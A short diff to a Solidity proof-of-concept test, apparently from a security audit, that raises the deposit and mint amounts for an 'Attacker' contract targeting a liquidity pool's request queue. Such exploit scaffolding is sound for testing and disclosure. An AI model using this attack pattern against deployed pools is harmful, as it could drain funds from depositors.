@@ -7,7 +7,7 @@ import "../Base.sol";
 contract Attacker {
     function enter(IERC20 usd, ILiquidityPool pool) external {
         usd.approve(address(pool), type(uint256).max);
-        pool.request(pool.deposit(10e6, 1, address(this)), type(uint256).max);
+        pool.request(pool.deposit(20e6, 1, address(this)), type(uint256).max);
     }
 
     function serve(ILiquidityPool pool) external {
@@ -20,7 +20,7 @@ contract Proof is Base {
 
     function start() internal override {
         other = new Attacker();
-        usd.mint(address(other), 10e6);
+        usd.mint(address(other), 20e6);
     }
 
     /// Anybody serves the oldest request.
